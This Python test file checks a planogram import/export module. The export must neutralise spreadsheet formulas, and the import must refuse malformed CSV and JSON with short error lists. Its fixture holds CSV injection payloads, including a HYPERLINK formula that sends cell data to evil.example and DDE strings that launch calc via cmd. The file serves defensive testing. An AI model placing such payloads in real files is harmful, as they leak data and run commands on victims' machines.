"""Files as an attacker or an unlucky operator makes them: formulas in names, stray carriage returns, thousands
of bad lines, odd JSON. The import refuses with a short, bounded list; the export can be opened safely in a
spreadsheet and re-imports its own output byte for byte."""

from __future__ import annotations

import csv
import io
import json

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from designer.cabinets import Cabinet, TemperatureZone
from designer.planogram_files import (
    MAX_PROBLEMS,
    PlanogramFileInvalid,
    planogram_to_csv,
    read_planogram,
)
from designer.planograms import Planogram, Slot
from designer.positions import Position
from designer.products import Catalogue, Product

CABINET = Cabinet(1, 0, 2, 4, TemperatureZone.AMBIENT)
HOSTILE_NAMES = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "Cola\rZero",
    'Quote "this", please',
]
CATALOGUE = Catalogue([Product(i + 1, name, "snacks", 1.5) for i, name in enumerate(HOSTILE_NAMES)])
HEADER = "position,product_id,product_name,price,quantity,capacity,par_level\n"


def hostile_planogram() -> Planogram:
    slots = [Slot(Position(i // 4, i % 4), i + 1, 3, 10, 8) for i in range(len(HOSTILE_NAMES))]
    return Planogram.from_slots(1, 0, slots)


def test_no_exported_name_can_run_as_a_spreadsheet_formula() -> None:
    text = planogram_to_csv(hostile_planogram(), CATALOGUE)
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert len(rows) == len(HOSTILE_NAMES)  # the carriage returns split no row
    for row, name in zip(rows, HOSTILE_NAMES, strict=True):
        cell = row["product_name"]
        assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r"), cell
        assert cell in (name, f"'{name}")
    assert {row["product_name"] for row in rows} >= {"'@SUM(1+1)", "'\t=1+1", "Cola\rZero"}


def test_the_export_reimports_to_the_same_bytes() -> None:
    exported = planogram_to_csv(hostile_planogram(), CATALOGUE)
    imported = read_planogram(exported.encode(), CABINET, CATALOGUE, kind="csv")
    assert planogram_to_csv(imported, CATALOGUE) == exported


def test_thousands_of_repeats_of_one_slot_are_one_problem_naming_a_few_lines() -> None:
    with pytest.raises(PlanogramFileInvalid) as refused:
        read_planogram((HEADER + "A1,1,,,,,\n" * 8_000).encode(), CABINET, CATALOGUE, kind="csv")
    assert len(refused.value.problems) == 1
    text = str(refused.value)
    assert "lines 2, 3, 4, 5, 6 and 7,995 more, slot A1: the same slot is listed twice" in text
    assert len(text) < 300


def test_a_file_of_bad_lines_lists_the_first_fifty_and_counts_the_rest() -> None:
    with pytest.raises(PlanogramFileInvalid) as refused:
        read_planogram((HEADER + "A1,xx,,,,,\n" * 3_000).encode(), CABINET, CATALOGUE, kind="csv")
    assert len(refused.value.problems) == MAX_PROBLEMS
    assert refused.value.more == 3_000 - MAX_PROBLEMS
    text = str(refused.value)
    assert "3000 problems" in text and "… and 2950 more problems after these" in text
    assert "line 51, column product_id" in text and "line 52," not in text


@pytest.mark.parametrize(
    ("document", "named"),
    [
        ({"slots": [], "status": ["active"]}, "field status"),
        ({"slots": [], "status": {"a": 1}}, "field status"),
        ({"slots": [{"position": ["A", 1], "product_id": 1}]}, "slot"),
        ({"slots": [{"position": "A1", "product_id": [1]}]}, "A1"),
        ({"slots": [{"position": "A1", "product_id": 1, "quantity": {"n": 3}}]}, "A1"),
        ({"slots": "A1"}, "not a planogram"),
        ({"slots": [], "cabinet": [2, 4]}, "field cabinet"),
        ({"slots": [], "version": 1e308}, "field version"),
        ({"slots": [], "name": ["x"]}, "field name"),
    ],
)
def test_json_of_the_wrong_shapes_is_refused_naming_the_field(document: dict[str, object], named: str) -> None:
    with pytest.raises(PlanogramFileInvalid) as refused:
        read_planogram(json.dumps(document).encode(), CABINET, CATALOGUE, kind="json")
    assert named in str(refused.value)


JSON_VALUES = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False) | st.text(max_size=12),
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=8), inner, max_size=4),
    max_leaves=20,
)
FIELDS = st.sampled_from(
    ["position", "product_id", "product_name", "price", "quantity", "capacity", "par_level", "status", "x"]
)
SLOT_ENTRIES = st.dictionaries(FIELDS, JSON_VALUES | st.sampled_from(["A1", "B4", "Z9", 1, 3, -1]), max_size=7)
DOCUMENTS = st.fixed_dictionaries(
    {"slots": st.lists(SLOT_ENTRIES, max_size=6)},
    optional={
        "status": JSON_VALUES,
        "version": JSON_VALUES,
        "name": JSON_VALUES,
        "id": JSON_VALUES,
        "cabinet": JSON_VALUES,
        "format": JSON_VALUES,
        "content_hash": JSON_VALUES,
    },
)


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(DOCUMENTS)
def test_any_json_document_becomes_a_planogram_or_a_refusal_never_a_crash(document: dict[str, object]) -> None:
    try:
        read_planogram(json.dumps(document).encode(), CABINET, CATALOGUE, kind="json")
    except PlanogramFileInvalid as refused:
        assert refused.problems and len(str(refused)) < 20_000
